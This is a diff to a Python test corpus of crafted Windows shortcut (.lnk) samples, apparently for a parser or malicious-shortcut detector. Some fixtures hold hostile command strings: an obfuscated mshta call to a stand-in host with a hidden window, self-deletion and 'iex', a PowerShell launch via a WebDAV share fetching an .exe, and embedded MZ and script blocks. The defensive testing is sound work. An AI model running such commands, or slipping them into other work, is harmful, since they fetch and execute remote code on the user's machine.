@@ -26,6 +26,9 @@ CORPUS = {
     "two-ways": m.link(name="x" * 262, arguments="b"),
     "command": m.link(link_info=m.info(CMD), arguments="/c" + " " * 9 + "m^s^h^ta http://h/ & del a.lnk -w hidden iex", icon="a.pdf"),
     "padded-to-its-end": m.link(arguments=" " * 9 + "x"),  # what follows the blanks was shown past its end
+    "share": m.link(link_info=m.info("C:\\POWERS~1.EXE"), arguments="-w h \\\\h@SSL\\a file://h/a.exe 'ht'+'tp://h' C:\\\\a //no"),
+    "payload": m.link(blocks=[m.block(0xA0000009, b"\x40\0\0\0MZ" + b"\0" * 0x3a + m.TERMINAL), m.block(0xA00000FF, b"MZ\x90\0<script")]),
+    "installer": m.link(blocks=[m.darwin("a>b")], flags=1 << 12),
     "overlay": m.link(overlay=b"MZ\0\0"),
 }
 
